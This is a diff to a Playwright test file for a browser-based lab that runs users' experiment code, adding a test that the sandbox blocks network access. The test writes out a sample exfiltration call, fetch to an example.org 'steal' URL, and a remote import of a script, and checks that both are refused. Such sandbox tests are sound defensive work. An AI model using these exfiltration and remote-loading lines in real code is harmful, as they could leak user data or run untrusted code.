@@ -5,9 +5,11 @@ import path from 'node:path';
 import { startServer } from '../../web/tools/serve.mjs';
 import {
   CELL,
+  LSTM_CHAPTER,
   consoleText,
   distDir,
   foreignRequests,
+  newPage,
   openLab,
   runCount,
   setCode,
@@ -141,11 +143,10 @@ test('the page and a run ask nothing of any other origin', async () => {
 test('the built site works from a sub-folder', async () => {
   // Serve web/ and open web/dist/ as /dist/: every URL in the site must be relative.
   const server = await startServer({ root: path.dirname(distDir), port: 0 });
+  lab.allowOrigin(server.url);
   try {
-    const page = await lab.context.newPage();
-    const requests = [];
-    page.on('request', (request) => requests.push(request.url()));
-    await page.goto(`${server.url}dist`); // no trailing slash: the server redirects
+    const { page, requests } = await newPage(lab);
+    await page.goto(`${server.url}dist${LSTM_CHAPTER}`); // no trailing slash: the server redirects
     await page.waitForSelector('.cell[data-engine="ready"]', { timeout: 20_000 });
     await setCode(page, 'print(gl.zeros([4, 2]).shape);');
     await page.click(`${CELL} [data-action="run"]`);
@@ -160,9 +161,9 @@ test('the built site works from a sub-folder', async () => {
 });
 
 test('a missing engine is reported instead of hanging', async () => {
-  const page = await lab.context.newPage();
+  const { page } = await newPage(lab);
   await page.route('**/engine/gradlab-engine.wasm', (route) => route.fulfill({ status: 404, body: 'not here' }));
-  await page.goto(lab.url);
+  await page.goto(lab.url + LSTM_CHAPTER);
   await page.waitForSelector('.cell[data-engine="failed"]', { timeout: 20_000 });
   assert.match(await page.textContent(`${CELL} .status`), /could not be loaded: .*HTTP 404/);
   await page.close();
@@ -177,3 +178,22 @@ test('an exception in a callback ends the run at its line', async () => {
   await page.close();
 });
 
+test('experiment code cannot reach the network', async () => {
+  const { page, requests } = await openLab(lab);
+  await setCode(page, 'print("before");\nawait fetch("http://example.org/steal?" + "x");\n');
+  await page.click(`${CELL} [data-action="run"]`);
+  assert.equal(await waitForRunEnd(page, 1), 'failed');
+  assert.match(await consoleText(page), /before[\s\S]*Error: fetch is not available in an experiment.* \(line 2, col \d+\)/);
+  await setCode(page, 'const m = await import("http://example.org/x.js");\n');
+  await page.click(`${CELL} [data-action="run"]`);
+  assert.equal(await waitForRunEnd(page, 2), 'failed');
+  assert.match(await consoleText(page), /SyntaxError: 'import\(\)' is not available in an experiment.* \(line 1, col 17\)/);
+  assert.deepEqual(foreignRequests(requests, lab.url), []);
+  await page.close();
+});
+
+// Last in the file: every request of every test above, not only those a test checked.
+test('no request left the sites the tests served, and the pages\' policy refused nothing, in any test of this file', () => {
+  assert.deepEqual(lab.foreignRequests(), []);
+  assert.deepEqual(lab.refusedByPolicy(), []);
+});
